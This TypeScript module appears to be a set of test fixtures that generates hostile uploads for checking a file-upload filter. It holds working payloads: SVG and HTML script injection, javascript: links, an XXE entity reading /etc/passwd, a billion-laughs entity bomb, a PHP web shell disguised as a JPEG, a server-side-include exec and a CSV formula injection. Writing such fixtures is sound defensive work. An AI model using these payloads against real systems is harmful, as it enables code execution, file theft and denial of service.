import { gzipSync } from "node:zlib";
import { type HostileFile, hostile, PWN } from "./hostile-file.ts";

const svg = (inside: string, on = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${on}>${inside}</svg>`;
const script = `<script>${PWN}</script>`;
const entity = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${"bcdefghij"[n]} "${`&${"abcdefghi"[n]};`.repeat(10)}">`).join("")}]>`;

/** Drawings and documents that a browser would run. */
export const drawings = (): HostileFile[] => [
  hostile("SVG with a script", "logo.svg", "image/svg+xml", svg(script)),
  hostile("SVG with a handler", "logo.svg", "image/svg+xml", svg("", `onload="${PWN}"`)),
  hostile(
    "SVG with HTML inside",
    "logo.svg",
    "image/svg+xml",
    svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject>`),
  ),
  hostile("SVG with a javascript link", "logo.svg", "image/svg+xml", svg(`<a xlink:href="javascript:${PWN}"><text>a</text></a>`)),
  hostile("SVG that reads a file", "logo.svg", "image/svg+xml", entity + svg("<text>&x;</text>")),
  hostile("SVG of a billion laughs", "logo.svg", "image/svg+xml", laughs + svg("<text>&j;</text>")),
  hostile("SVG called PNG", "logo.png", "image/png", svg(script)),
  hostile("SVG called JPEG", "logo.jpg", "image/jpeg", `<?xml version="1.0"?>\n<!-- -->\n${svg(script)}`),
  hostile("SVG in UTF-16", "logo.svg", "image/svg+xml", Buffer.from(`\uFEFF${svg(script)}`, "utf16le")),
  hostile("SVG packed", "logo.svgz", "image/svg+xml", gzipSync(svg(script))),
  hostile(
    "SVG with a prefix",
    "logo.svg",
    "image/svg+xml",
    `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${PWN}</s:script></s:svg>`,
  ),
  hostile("SVG after much white space", "logo.svg", "image/svg+xml", `${" \n".repeat(3000)}${svg(script)}`),
];

export const pages = (): HostileFile[] => [
  hostile("HTML", "page.html", "text/html", `<!doctype html>${script}`),
  hostile("HTML called PDF", "statutes.pdf", "application/pdf", `<html>${script}</html>`),
  hostile("HTML called PNG", "logo.png", "image/png", `<!doctype html><img src=x onerror="${PWN}">`),
  hostile("HTML with a byte order mark", "a.htm", "text/html", `\uFEFF<html>${script}`),
  hostile("XHTML", "a.xhtml", "application/xhtml+xml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  hostile(
    "MHTML",
    "a.mht",
    "message/rfc822",
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${script}\r\n--b--`,
  ),
  hostile("a style sheet", "a.css", "text/css", "@import 'javascript:alert(1)'; body{background:url(//x)}"),
  hostile("JavaScript", "a.js", "text/javascript", PWN),
  hostile(
    "XML with a transformation",
    "a.xml",
    "text/xml",
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x>${script}</x>`,
  ),
  hostile("PHP called JPEG", "shell.php.jpg", "image/jpeg", "<?php system($_GET['c']); ?>"),
  hostile("server side include", "a.shtml", "text/html", "<!--#exec cmd='id' -->"),
  hostile("a web shortcut", "a.url", "text/plain", "[InternetShortcut]\r\nURL=file:///etc/passwd"),
  hostile("RTF with an object", "a.rtf", "application/rtf", "{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}"),
  hostile("CSV with a formula", "a.csv", "text/csv", "=cmd|' /C calc'!A0"),
];
